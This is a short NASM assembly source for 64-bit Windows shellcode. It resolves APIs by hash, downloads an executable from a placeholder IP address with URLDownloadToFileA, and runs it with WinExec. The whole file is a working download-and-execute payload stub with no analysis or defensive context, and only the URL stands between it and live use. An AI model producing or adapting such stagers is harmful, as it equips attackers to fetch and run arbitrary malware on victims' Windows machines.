; Windows, 64 bit: URLDownloadToFileA from a documentation address, then WinExec.
bits 64
%include "windows64_calls.inc"
HASH64 download, 'URLDownloadToFileA'
HASH64 win_exec, 'WinExec'
	RESOLVER64
	lea rcx, [rel library]
	CALL64 rbx, load_library
	mov r12, rax
	xor ecx, ecx
	lea rdx, [rel url]
	lea r8, [rel path]
	xor r9d, r9d
	mov [rsp + 0x20], r9
	CALL64 r12, download
	lea rcx, [rel path]
	xor edx, edx
	CALL64 rbx, win_exec
	int3
library: db 'urlmon', 0
url:	db 'http://192.0.2.85/a.exe', 0
path:	db 'C:\a.exe', 0
